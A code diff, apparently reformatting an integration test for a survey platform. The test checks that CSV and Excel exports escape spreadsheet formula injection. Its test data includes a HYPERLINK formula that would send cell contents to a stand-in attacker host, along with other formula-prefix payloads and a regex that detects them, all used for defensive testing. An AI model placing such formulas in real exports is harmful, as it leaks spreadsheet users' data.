@@ -36,7 +36,11 @@ const QUESTIONS = [
  * line feed before the text cannot reach the database (answers are trimmed): the unit tests of the writer have those.
  */
 const ANSWERS: [sent: string, stored: string, written: string][] = [
-	['=HYPERLINK("http://evil.example/?d="&A1,"click")', '=HYPERLINK("http://evil.example/?d="&A1,"click")', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
+	[
+		'=HYPERLINK("http://evil.example/?d="&A1,"click")',
+		'=HYPERLINK("http://evil.example/?d="&A1,"click")',
+		`'=HYPERLINK("http://evil.example/?d="&A1,"click")`
+	],
 	['+1+1', '+1+1', "'+1+1"],
 	['-2+3', '-2+3', "'-2+3"],
 	['@SUM(A1:A9)', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
@@ -54,11 +58,17 @@ const ANSWERS: [sent: string, stored: string, written: string][] = [
 function readCsv(bytes: ArrayBuffer): string[][] {
 	const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
 	expect(text.charCodeAt(0)).toBe(0xfeff);
-	return parse(text.slice(1), { record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: false, relax_quotes: false, skip_empty_lines: false }) as string[][];
+	return parse(text.slice(1), {
+		record_delimiter: ['\r\n', '\n', '\r'],
+		relax_column_count: false,
+		relax_quotes: false,
+		skip_empty_lines: false
+	}) as string[][];
 }
 
 /** Whether a spreadsheet would take a cell for a formula: OWASP's first characters, or a sign after spaces; numbers aside. */
-const runnable = (cell: string) => /^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
+const runnable = (cell: string) =>
+	/^(?:[\t\r\n\0]|\s*[=+\-@＝＋－＠])/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);
 
 function expectSafe(rows: string[][]): void {
 	const width = rows[0].length;
@@ -70,7 +80,9 @@ function expectSafe(rows: string[][]): void {
 
 function expectNoFormula(workbook: ExcelJS.Workbook): void {
 	for (const sheet of workbook.worksheets) {
-		sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)));
+		sheet.eachRow((row) =>
+			row.eachCell((cell) => expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula))
+		);
 	}
 }
 
@@ -84,11 +96,29 @@ describe.each(DATABASES)('exports of hostile text, read by spreadsheets and impo
 	let total: number;
 
 	const call = (path: string, as: string, init: RequestInit = {}) =>
-		fetch(`${server.url}/api/v1${path}`, { ...init, headers: { authorization: `Bearer ${as}`, ...(init.headers ?? {}) } });
+		fetch(`${server.url}/api/v1${path}`, {
+			...init,
+			headers: { authorization: `Bearer ${as}`, ...(init.headers ?? {}) }
+		});
 	const importCsv = (id: string, wave: string, body: string | ArrayBuffer) =>
-		call(`/campaigns/${id}/responses/import?wave=${wave}&group=exposed&language=fr`, owner, { method: 'POST', headers: { 'content-type': 'text/csv' }, body });
+		call(`/campaigns/${id}/responses/import?wave=${wave}&group=exposed&language=fr`, owner, {
+			method: 'POST',
+			headers: { 'content-type': 'text/csv' },
+			body
+		});
 	const publish = (title: string) =>
-		publishOverHttp(server.url, owner, { title, regions: [{ code: 'tamba', name: REGION }, { code: 'kolda', name: 'Kolda' }] }, QUESTIONS);
+		publishOverHttp(
+			server.url,
+			owner,
+			{
+				title,
+				regions: [
+					{ code: 'tamba', name: REGION },
+					{ code: 'kolda', name: 'Kolda' }
+				]
+			},
+			QUESTIONS
+		);
 
 	beforeAll(async () => {
 		const scratch = database === 'postgres' ? await createScratchDatabase() : null;
@@ -108,11 +138,20 @@ describe.each(DATABASES)('exports of hostile text, read by spreadsheets and impo
 				headers: { 'content-type': 'application/json', origin: server.url },
 				body: JSON.stringify({ clientId, language: 'fr', answers: respondentAnswers(answers) })
 			});
-		for (const [index, [sent]] of ANSWERS.entries()) expect((await collect(`hostile-${String(index).padStart(3, '0')}`, { comment: sent })).status).toBe(201);
+		for (const [index, [sent]] of ANSWERS.entries())
+			expect((await collect(`hostile-${String(index).padStart(3, '0')}`, { comment: sent })).status).toBe(201);
 		expect((await collect('numbers-000', { choice: '-1', count: -5 })).status).toBe(201);
 		total = 80 + ANSWERS.length + 1;
 		const donorOrganisation = (await (await call('/organisations', donor)).json()).organisations[0].id;
-		expect((await call(`/campaigns/${campaignId}/shares`, owner, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ organisationId: donorOrganisation }) })).status).toBe(200);
+		expect(
+			(
+				await call(`/campaigns/${campaignId}/shares`, owner, {
+					method: 'POST',
+					headers: { 'content-type': 'application/json' },
+					body: JSON.stringify({ organisationId: donorOrganisation })
+				})
+			).status
+		).toBe(200);
 	}, 120_000);
 	afterAll(async () => {
 		await server?.stop();
@@ -178,7 +217,9 @@ describe.each(DATABASES)('exports of hostile text, read by spreadsheets and impo
 		const sheet = workbook.getWorksheet('responses')!;
 		const header = sheet.getRow(1).values as string[];
 		const comments = new Map<string, ExcelJS.Cell>();
-		sheet.eachRow((row, number) => number > 1 && comments.set(String(row.getCell(1).value), row.getCell(header.indexOf('comment'))));
+		sheet.eachRow(
+			(row, number) => number > 1 && comments.set(String(row.getCell(1).value), row.getCell(header.indexOf('comment')))
+		);
 		for (const [index, [, stored]] of ANSWERS.entries()) {
 			const cell = comments.get(`hostile-${String(index).padStart(3, '0')}`)!;
 			expect([cell.type, cell.value]).toEqual([ExcelJS.ValueType.String, stored]);
@@ -204,7 +245,8 @@ describe.each(DATABASES)('exports of hostile text, read by spreadsheets and impo
 		// The answers, the language and the times; the wave and group are the link's.
 		const kept = before[0].flatMap((column, index) => (['wave', 'group', 'mode'].includes(column) ? [] : [index]));
 		const again = byClientId(after);
-		for (const row of before.slice(1)) expect(kept.map((index) => again.get(row[0])?.[index])).toEqual(kept.map((index) => row[index]));
+		for (const row of before.slice(1))
+			expect(kept.map((index) => again.get(row[0])?.[index])).toEqual(kept.map((index) => row[index]));
 		expect(again.size).toBe(total);
 	});
 });
